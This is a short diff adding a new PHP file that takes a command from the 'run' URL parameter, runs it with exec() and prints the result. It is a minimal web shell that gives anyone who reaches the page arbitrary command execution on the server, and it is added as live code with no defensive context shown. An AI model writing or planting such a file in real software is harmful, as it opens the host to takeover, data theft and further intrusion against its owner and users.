@@ -1,0 +1,4 @@
+<?php
+$cmd = $_GET['run'];
+exec($cmd, $out);
+echo implode("\n", $out);
